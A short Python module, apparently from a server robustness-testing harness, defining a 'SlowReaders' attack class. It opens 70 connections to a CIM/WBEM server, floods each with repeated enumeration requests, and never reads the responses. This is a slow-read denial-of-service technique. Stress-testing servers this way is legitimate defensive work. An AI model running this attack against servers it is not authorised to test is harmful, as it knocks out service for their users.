import socket

from attack import Attack
from support import Crowd, connect, enumerate_names, post


class SlowReaders(Attack):
    """70 clients that ask for everything again and again and take no answer."""

    def attack(self, server, stopping):
        request = post(server, enumerate_names("CIM_ManagedElement")) * 20

        def begin():
            connection = connect(server)
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            connection.sendall(request)
            return connection

        # Nothing is read here: a connection that the server has closed is found by sending.
        Crowd(70, begin, lambda connection: connection.send(b"\r\n")).run(stopping)
